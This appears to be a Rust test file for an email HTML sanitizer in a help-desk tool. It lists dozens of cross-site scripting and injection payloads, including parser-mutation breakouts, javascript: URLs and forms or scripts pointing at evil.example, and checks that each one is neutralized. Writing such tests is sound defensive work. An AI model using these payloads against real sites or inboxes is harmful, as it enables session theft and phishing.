use std::collections::HashMap;
use std::sync::Arc;

use proptest::prelude::*;

use super::*;

fn body(html: &str) -> String {
    body_in(html, &View::default())
}

fn body_in(html: &str, view: &View) -> String {
    let shown = sanitize(html, view).html;
    let (_, body) = shown.split_once("<body>").unwrap();
    body.strip_suffix("</body></html>").unwrap().to_owned()
}

/// Attacks of the classes that help desks were found open to: script by every way in, mutation by the parser,
/// breaking out of attributes, style, frames, forms, clobbering.
const ATTACKS: [&str; 74] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=\"x\" onerror\n=\"alert(1)\">",
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href='https://x.example' onclick=alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<table><caption><style><!--</style><img src=x onerror=alert(1)>--></caption></table>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x onclick=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example)}</style>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<div style='color:red;position:fixed;inset:0'>x</div>",
    "<div style=\"font-family:'</style><script>alert(1)</script>'\">x</div>",
    "<img name=body id=cookie>",
    "<a id=location name=document>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x contenteditable autofocus onfocus=alert(1)>x",
];

/// What may never stand in a tag of the result, whatever it came from.
#[track_caller]
fn check_harmless(html: &str, shown: &str) {
    for token in scan::Scan::new(shown) {
        let scan::Token::Tag(tag) = token else { continue };
        let evil = [
            "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "meta",
            "base", "link", "template", "noscript",
        ];
        assert!(!evil.contains(&tag.name.as_str()), "{html:?} became {shown:?}");
        for (name, value) in &tag.attributes {
            assert!(!name.starts_with("on"), "{html:?} became {shown:?}");
            assert!(
                !["id", "name", "class", "srcset", "action", "background"].contains(&name.as_str()),
                "{html:?} became {shown:?}"
            );
            let value = value.to_ascii_lowercase();
            let is_address = matches!(name.as_str(), "href" | "src");
            assert!(
                !is_address || !value.contains("script:") && !value.starts_with("//"),
                "{html:?} became {shown:?}"
            );
            assert!(
                name != "style" || !value.contains("url(") && !value.contains("expression"),
                "{html:?} became {shown:?}"
            );
        }
    }
}

#[test]
fn no_attack_passes() {
    for attack in ATTACKS {
        check_harmless(attack, &body(attack));
        check_harmless(attack, &outgoing(attack));
        for other in ATTACKS {
            let nested = format!("<div title='{attack}'><b>{other}<p>{attack}");
            check_harmless(&nested, &body(&nested));
        }
    }
}

#[test]
fn what_passed_once_passes_unchanged() {
    for attack in ATTACKS {
        let twice = body(&body(attack));
        assert_eq!(body(&twice), twice, "{attack}");
    }
}

#[test]
fn honest_mail_keeps_its_looks() {
    for (html, expected) in [
        ("<p>Hello <b>Maria</b></p>", "<p>Hello <b>Maria</b></p>"),
        ("<td bgcolor='#fff' width=100>x", "x"),
        (
            "<table><tr><td bgcolor='#fff' width=100>x</td></tr></table>",
            "<table><tbody><tr><td bgcolor=\"#fff\" width=\"100\">x</td></tr></tbody></table>",
        ),
        ("<span style='color:red;mso-x:y'>x</span>", "<span style=\"color: red\">x</span>"),
        ("<o:p>&nbsp;</o:p>", "&nbsp;"),
        (
            "<a href='https://shop.example/?a=1&amp;b=2'>x</a>",
            "<a href=\"https://shop.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>",
        ),
        (
            "<a href='mailto:a@b.example'>x</a>",
            "<a href=\"mailto:a@b.example\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>",
        ),
        ("2 < 3 & 4 > 1", "2 &lt; 3 &amp; 4 &gt; 1"),
        ("", ""),
    ] {
        assert_eq!(body(html), expected, "{html}");
    }
}

#[test]
fn remote_content_is_blocked_and_counted() {
    for (html, count) in [
        ("<img src=https://a.example/x.png>", 1),
        ("<img src=//a.example/x.png>", 1),
        ("<img src='\\\\a.example/x.png'>", 1),
        ("<img src=' HTTP://a.example/x.png'>", 1),
        ("<img src=https:a.example/x.png>", 1),
        ("<img src='ht\ntps://a.example/x.png'>", 1),
        ("<img srcset='https://a.example/1.png 1x, https://a.example/2.png 2x'>", 2),
        ("<picture><source srcset='//a.example/1.png'><img src=cid:a></picture>", 1),
        ("<div style='background:url(https://a.example/x.png)'>x</div>", 1),
        ("<div style=\"background-image: URL( '//a.example/x.png' )\">x</div>", 1),
        ("<table background=https://a.example/x.png><tr><td background='//a.example/y.png'>x</table>", 2),
        ("<video poster=https://a.example/x.png src=https://a.example/x.mp4></video>", 2),
        ("<link rel=preload as=image href=//a.example/x.png>", 1),
        ("<link rel=stylesheet href=https://a.example/x.css>", 1),
        ("<style>@import 'https://a.example/x.css'; p{background:url(//a.example/x.png)}</style>", 2),
        ("<svg><image href='https://a.example/x.png'/><use xlink:href='//a.example/y.svg'/></svg>", 2),
        ("<input type=image src=https://a.example/x.png>", 1),
        (
            "<iframe src=https://a.example></iframe><embed src=//a.example><object data=//a.example></object>",
            3,
        ),
        ("<body background=https://a.example/x.png>", 1),
        ("<img src=cid:logo>", 0),
        ("<img src='cid:https://a.example/x.png'>", 0),
        ("<img src=data:image/png;base64,AAAA>", 0),
        ("<a href=https://a.example>x</a>", 0),
    ] {
        let shown = sanitize(html, &View::default());
        assert_eq!(shown.blocked_remote, count, "{html}");
        let body = shown.html.split_once("<body>").unwrap().1.to_lowercase();
        assert!(!body.contains("a.example") || html.starts_with("<a "), "{html} became {body}");
    }
}

fn proxied() -> View {
    let through = |address: &str| format!("/proxy?from={}", address.replace('&', "%26"));
    View { remote: Remote::Proxied(Arc::new(through)), ..View::default() }
}

#[test]
fn on_request_images_come_through_our_proxy_and_nothing_else_comes() {
    let html = "<img src='https://a.example/x.png?1&amp;2'><img src=//a.example/y.png><img src=https:a.example/z><div style='background:url(//a.example)'>x</div><img src=ftp://a.example/x>";
    let shown = sanitize(html, &proxied());
    assert_eq!(
        body_in(html, &proxied()),
        "<img src=\"/proxy?from=https://a.example/x.png?1%262\"><img src=\"/proxy?from=https://a.example/y.png\">\
         <img src=\"/proxy?from=https://a.example/z\"><div>x</div><img>"
    );
    assert_eq!(shown.blocked_remote, 2);
}

#[test]
fn only_what_asks_another_server_is_said_to() {
    for (html, asks) in [
        ("<p>Hello <b>there</b>", false),
        ("<a href='https://a.example/page'>a link is followed, not fetched</a>", false),
        ("<img src=cid:logo@shop><img src='data:image/png;base64,AAAA'>", false),
        ("<img src='https://a.example/x.png'>", true),
        ("<td background=//a.example/x.png>", true),
        ("<style>p { background: url(https://a.example/x.png) }</style>", true),
        ("<!-- <img src='https://a.example/x.png'> -->", false),
    ] {
        assert_eq!(fetches(html), asks, "{html}");
    }
}

#[test]
fn inline_images_come_from_the_message() {
    let images = HashMap::from([("logo@shop".to_owned(), "/attachments/abc".to_owned())]);
    let view = View { images, ..View::default() };
    for (html, expected) in [
        ("<img src=cid:logo@shop alt=Logo>", "<img src=\"/attachments/abc\" alt=\"Logo\">"),
        ("<img src='CID:logo%40shop'>", "<img src=\"/attachments/abc\">"),
        ("<img src=cid:other>", "<img>"),
        ("<img src='data:image/png;base64,AAAA'>", "<img src=\"data:image/png;base64,AAAA\">"),
        ("<img src='data:image/svg+xml;base64,AAAA'>", "<img>"),
        ("<img src='data:text/html,x'>", "<img>"),
    ] {
        assert_eq!(body_in(html, &view), expected, "{html}");
    }
}

#[test]
fn the_frame_has_its_own_policy() {
    let view = View { images_from: "https://desk.example; script-src *".to_owned(), ..View::default() };
    let shown = sanitize("<p>x", &view).html;
    assert!(
        shown.contains(
            "default-src 'none'; img-src data: https://desk.example script-src *; style-src 'unsafe-inline'"
        ),
        "{shown}"
    );
    assert!(!shown.contains("; script-src"));
}

#[test]
fn text_for_reading() {
    for (html, expected) in [
        ("<p>Hello</p><p>Maria</p>", "Hello\n\nMaria"),
        ("one<br>two<div>three</div>four", "one\ntwo\nthree\nfour"),
        ("a  \n b&nbsp;c", "a b c"),
        ("<ul><li>one<li>two</ul>", "- one\n- two"),
        ("<ol start=3><li>one</li><li>two<ul><li>deep</li></ul></li></ol>", "3. one\n4. two\n  - deep"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a  b\nc"),
        ("<blockquote>one<blockquote>two</blockquote></blockquote>three", "> one\n>\n> > two\n\nthree"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<a href='https://x.example'>here</a>", "here"),
        ("<div style='display: none'>hidden<div>too</div></div>seen", "seen"),
        ("<style>p{}</style><script>x</script><title>t</title>seen", "seen"),
        ("&lt;b&gt; &amp;amp;", "<b> &amp;"),
        ("<img alt='Logo' src=x>", "Logo"),
        ("<p class=MsoNormal>a</p><p class=MsoNormal>b</p>", "a\nb"),
        ("Hi<div class=gmail_signature>Maria</div>", "Hi\n--\nMaria"),
        ("Hi<div class=gmail_signature><br></div>there", "Hi\n\nthere"),
    ] {
        assert_eq!(text_of(html), expected, "{html}");
    }
}

#[test]
fn no_address_is_made_that_nobody_wrote() {
    let long = format!("https://track.example/{}", "x".repeat(200));
    let tracked = format!("<a href='{long}'>https://shop.example/</a>");
    for (html, expected) in [
        (
            "<a href='http://paypa1.example/'>http://paypal.com/</a><form><button>Go</button></form>",
            "http://paypal.com/ (http://paypa1.example/)\nGo",
        ),
        (
            "<a href='http://x.example/'>http://x.example/</a><button>Go</button> on",
            "http://x.example/ Go on",
        ),
        ("<a href='http://x.example/'>http://x.example/</a>Go", "http://x.example/ Go"),
        ("<a href='http://x.example/'>http://x.example/</a>.", "http://x.example/."),
        ("<a href='http://x.example/'>http://x.example/</a>, or", "http://x.example/, or"),
        ("<a href='http://x.example/?a=1'>www.x.example</a>", "www.x.example"),
        ("<a href='https://www.x.example/'>http://X.example/shop</a>", "http://X.example/shop"),
        (
            "<a href='http://x.example@evil.example/'>http://x.example</a>",
            "http://x.example (http://x.example@evil.example/)",
        ),
        ("<a href='mailto:b@evil.example'>a@x.example</a>", "a@x.example (b@evil.example)"),
        ("<a href='mailto:a@x.example?subject=b'>a@x.example</a>", "a@x.example"),
        ("<a href='https://x.example'>our www.shop.example</a>", "our www.shop.example"),
        ("<a href='https://x.example'>report.pdf</a>", "report.pdf"),
        (&tracked, "https://shop.example/ (https://track.example)"),
        ("<a href='http://x.example'>a</a><form>b<input value=c>d</form>e", "a\nbd\ne"),
        ("<menu><li>one</menu>two<dialog>three</dialog>four", "- one\ntwo\nthree\nfour"),
    ] {
        assert_eq!(text_of(html), expected, "{html}");
    }
}

#[test]
fn what_is_sent_is_plain_and_honest() {
    let html = "<h1 class=x>Hi</h1><p style='color:red' onclick=x>See <a href='https://x.example/a'>this</a> and <a href='mailto:a@b.example'>a@b.example</a></p>\
                <img src='cid:pic' onerror=x><img src='https://track.example'><ul><li><p>one</p></li><li><p>two</p></li></ul><script>x</script>";
    assert_eq!(
        outgoing(html),
        "<h1>Hi</h1><p>See <a href=\"https://x.example/a\">this</a> and <a href=\"mailto:a@b.example\">a@b.example</a></p>\
         <img src=\"cid:pic\"><img><ul><li><p>one</p></li><li><p>two</p></li></ul>"
    );
    assert_eq!(outgoing_text(html), "Hi\n\nSee this <https://x.example/a> and a@b.example\n\n- one\n- two");
}

#[test]
fn costly_documents_are_shown_as_text() {
    let fonts = (0..3_000).map(|size| format!("<font size={size}>")).collect::<Vec<_>>();
    let html = format!("{}{}", fonts.concat(), "<p>x".repeat(3_000));
    assert!(body(&html).starts_with("<pre>"));
    assert!(body(&"<div>".repeat(20_000)).starts_with("<pre>"));
    let attributes = (0..1_000).map(|number| format!(" a{number}")).collect::<Vec<_>>();
    assert!(body(&format!("<a{}>x", attributes.concat())).starts_with("<pre>"));
    assert!(body(&format!("<table>{}", "x<br>".repeat(2_000))).starts_with("<pre>"));
    let honest = "<table><tr><td><font size=1><b>x</td></tr></table>".repeat(2_000);
    assert!(body(&honest).starts_with("<table>"));
}

proptest! {
    #[test]
    fn no_markup_makes_it_panic_or_dangerous(pieces in prop::collection::vec(
        prop_oneof![prop::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned), "[<>/a-z=\"' &;!-]{0,12}", "\\PC{0,8}"],
        0..8,
    )) {
        let html = pieces.concat();
        check_harmless(&html, &body(&html));
        check_harmless(&html, &outgoing(&html));
        let _ = text_of(&html);
    }
}
